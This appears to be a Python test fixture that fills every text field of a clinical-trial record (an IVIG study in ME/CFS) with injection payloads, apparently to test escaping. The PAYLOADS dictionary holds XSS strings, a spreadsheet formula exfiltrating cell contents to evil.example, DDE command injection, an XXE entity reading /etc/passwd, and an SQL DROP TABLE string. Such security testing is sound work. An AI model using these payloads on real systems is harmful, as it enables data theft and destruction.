"""Texts that somebody wrote to harm whoever reads them, and a record that holds one in every field we ask for."""

from collections.abc import Callable
from typing import Any

import msgspec

from fetchers.record.study import Study

PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "a picture that runs": '"><img src=x onerror=alert(1)>',
    "a drawing that runs": "<svg/onload=alert(1)>",
    "the end of our own element": "</script></style></title></textarea><iframe src=//evil.example>",
    "a link that runs": "[click](javascript:alert(1))",
    "a Markdown picture": "![x](https://evil.example/beacon.png)",
    "Streamlit's own markup": ":red[x] :material/home: $\\href{javascript:alert(1)}{x}$",
    "a formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "a command for a spreadsheet": "=cmd|' /C calc'!A0",
    "a formula behind a sign": "+1+cmd|' /C calc'!A0",
    "a formula behind a blank": "\t=1+1",
    "a formula in full width": "＝1+1",
    "an @ function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lines of its own": "x\r\nDTSTART:19700101\r\nX-EVIL: 1\r\nER  - \r\n}\r\n",
    "XML": "<![CDATA[x]]>&xxe;<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "signs that turn the order": "\u202egnp.exe\u2066 \u0000\u0007\u001b[31m",
    "a query": "'; DROP TABLE study; --",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>{0.__class__}%s%n",
}  # fmt: skip
TOGETHER = "all of them together"
PAYLOADS[TOGETHER] = " ".join(PAYLOADS.values())
NCT_ID = "NCT08000099"
# Of these the decoder reads nothing but what they are; all other texts are free.
_GIVEN: dict[str, Any] = {
    "protocolSection.identificationModule.nctId": NCT_ID,
    "protocolSection.statusModule.lastUpdatePostDateStruct.date": "2026-11-01",
}


def record(text: str, nct_id: str = NCT_ID) -> dict[str, Any]:
    """A study with ``text`` in every field that takes one, in addition to what makes it a trial of IVIG in ME/CFS."""
    study: dict[str, Any] = _filled(msgspec.inspect.type_info(Study), "", lambda: text)
    study.pop("unreadable", None)
    study["protocolSection"]["identificationModule"]["nctId"] = nct_id
    study["hasResults"] = False
    protocol = study["protocolSection"]
    protocol["statusModule"]["overallStatus"] = "COMPLETED"
    protocol["designModule"] |= {"studyType": "INTERVENTIONAL", "phases": ["PHASE2"]}
    protocol["conditionsModule"]["conditions"] = ["Chronic Fatigue Syndrome", text]
    drug = protocol["armsInterventionsModule"]["interventions"][0]
    protocol["armsInterventionsModule"]["interventions"] = [drug | {"name": "Intravenous Immunoglobulin"}, drug]
    return study


def _filled(info: Any, path: str, text: Callable[[], str]) -> Any:
    if path in _GIVEN:
        return _GIVEN[path]
    if isinstance(info, msgspec.inspect.UnionType):
        (info,) = (kind for kind in info.types if not isinstance(kind, msgspec.inspect.NoneType))
    if isinstance(info, msgspec.inspect.VarTupleType):
        return [_filled(info.item_type, path, text)]
    if isinstance(info, msgspec.inspect.StructType):
        below = f"{path}." if path else ""
        return {one.encode_name: _filled(one.type, f"{below}{one.encode_name}", text) for one in info.fields}
    return _leaf(info, text)


def _leaf(info: Any, text: Callable[[], str]) -> Any:
    if isinstance(info, msgspec.inspect.BoolType):
        return True
    if isinstance(info, msgspec.inspect.IntType | msgspec.inspect.FloatType):
        return 20
    return text()
